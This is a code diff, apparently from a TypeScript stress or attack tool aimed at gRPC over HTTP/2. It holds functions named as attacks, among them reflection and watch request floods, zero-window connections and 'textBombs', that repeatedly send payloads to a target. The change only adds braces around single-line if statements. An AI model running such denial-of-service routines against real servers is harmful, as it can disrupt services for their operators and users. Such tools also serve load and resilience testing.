@@ -32,7 +32,9 @@ export const reflectedHosts: Attack = {
       const connection = await openHttp2(target, tally, { window: 0 });
       const block = grpcBlock(reflection, { gzip: true });
       for (let count = 0; count < 100; count += 1) {
-        if (!(await connection.send(block, asked, span, false))) break;
+        if (!(await connection.send(block, asked, span, false))) {
+          break;
+        }
       }
     });
     await span.rest();
@@ -63,8 +65,9 @@ export const reflectedFiles: Attack = {
               asked.length,
               span,
             ))
-          )
+          ) {
             return;
+          }
         }
       }
     });
@@ -83,7 +86,9 @@ export const watchedLongNames: Attack = {
       const connection = await openHttp2(target, tally);
       const block = grpcBlock(watch, { gzip: true });
       for (let count = 0; count < 100; count += 1) {
-        if (!(await connection.send(block, asked, span))) break;
+        if (!(await connection.send(block, asked, span))) {
+          break;
+        }
       }
     });
     await span.rest();
@@ -101,7 +106,9 @@ export const manyWatches: Attack = {
       const connection = await openHttp2(target, tally);
       const block = grpcBlock(watch);
       for (let count = 0; count < 100; count += 1) {
-        if (!(await connection.send(block, asked, span))) break;
+        if (!(await connection.send(block, asked, span))) {
+          break;
+        }
       }
     });
     await span.rest();
@@ -144,8 +151,12 @@ export const checkedLongNames: Attack = {
       const connection = await openHttp2(target, tally, { window: 0 });
       for (let count = 0; count < 100; count += 1) {
         const form = forms[(index + count) % forms.length];
-        if (form === undefined) break;
-        if (!(await connection.send(form.block, form.content, span))) break;
+        if (form === undefined) {
+          break;
+        }
+        if (!(await connection.send(form.block, form.content, span))) {
+          break;
+        }
       }
     });
     await span.rest();
@@ -209,7 +220,9 @@ export const textBombs: Attack = {
       for (let turn = index; !span.over; turn += 1) {
         const socket = await openRead(target, tally);
         const one = asked[turn % asked.length] ?? Buffer.alloc(0);
-        if (await send(socket, one, span)) await flood(socket, () => one, span);
+        if (await send(socket, one, span)) {
+          await flood(socket, () => one, span);
+        }
       }
     });
     return undefined;
